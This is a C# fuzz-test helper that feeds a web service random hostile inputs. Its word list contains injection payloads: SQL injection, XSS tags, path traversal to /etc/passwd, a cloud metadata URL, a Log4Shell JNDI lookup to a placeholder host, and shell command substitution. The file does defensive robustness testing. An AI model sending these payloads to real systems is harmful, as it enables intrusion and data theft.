using System.Text;

namespace ServiceRouter.ChaosTests.Hostile;

/// <summary>What hostile people put where a word belongs. Latin-1 strings: a character for each byte that is sent.</summary>
internal static class Nasty
{
    public static readonly string[] Words =
    [
        "", " ", "0", "-1", "99999999999999999999", "1e999", "NaN", "null", "true", "undefined", "\0", "\0\u0001\u0002\u001b[31m\u007f", "\r\nSet-Cookie: a=b\r\n\r\n", "\u00ff\u00fe\u00fd", "\u00c0\u00af",
        "\u00ed\u00a0\u0080", "\u00f4\u0090\u0080\u0080", "'; drop table handoffs; --", "' or '1'='1", "1); select pg_sleep(5); --", "\" or \"\"=\"", "%' and 1=1 --", "{{7*7}}", "${7*7}", "@(7*7)", "<%= 7*7 %>", "#{7*7}",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "//elsewhere.example/", "http://169.254.169.254/",
        "${jndi:ldap://elsewhere.example/a}", "|id", "`id`", "$(id)", "%s%s%s%n", "K7PR-2XW-9AD-FM4H", "k7pr2xw9adfm4h", "00000000-0000-0000-0000-000000000000", "{00000000000000000000000000000000}",
        "\u00f0\u009f\u0098\u0080", "e\u00cc\u0081\u00cc\u0081\u00cc\u0081\u00cc\u0081", "\u00e2\u0080\u00ae\u00e2\u0080\u00ab", "true,false", "[]", "{}", "[object Object]", "2026-02-30", "9999-12-31T23:59:60Z", "-0001-01-01", "06 12 34 56 78", "+33612345678", "23000", "0x7f", "٢٣٠٠٠",
    ];

    public static readonly string[] Fields =
    [
        "texte", "choix", "envoi", "vu", "recepisse", "prefere", "cle", "lieu", "numero", "jour", "heure", "code", "note", "resolu", "mots", "user", "retour", "handler", "__RequestVerificationToken",
        "text", "draftId", "status", "capacity", "outcome", "kind", "dueAt", "pool", "counsellor", "lastEventId", "state", "period", "from", "to", "receipt", "id",
    ];

    public static string Word(Random random) => random.Next(12) switch
    {
        0 => new string((char)random.Next(1, 256), random.Next(1, 6000)),
        1 => Bytes(random, random.Next(1, 200)),
        2 => Words[random.Next(Words.Length)] + Words[random.Next(Words.Length)],
        _ => Words[random.Next(Words.Length)],
    };

    public static string Bytes(Random random, int count)
    {
        var bytes = new byte[count];
        random.NextBytes(bytes);
        return Encoding.Latin1.GetString(bytes);
    }

    /// <summary>As a browser or a careless program would put it into an address: escaped, half escaped, or with escapes that are none.</summary>
    public static string InAddress(Random random, string word) => random.Next(3) switch
    {
        0 => string.Concat(word.Select(c => $"%{(int)c:X2}")),
        1 => string.Concat(word.Select(c => char.IsAsciiLetterOrDigit(c) ? $"{c}" : $"%{(int)c:X2}")),
        _ => string.Concat(word.Where(c => c is > ' ' and < '\u007f' and not '#')) + (random.Next(4) == 0 ? "%zz%" : ""),
    };
}
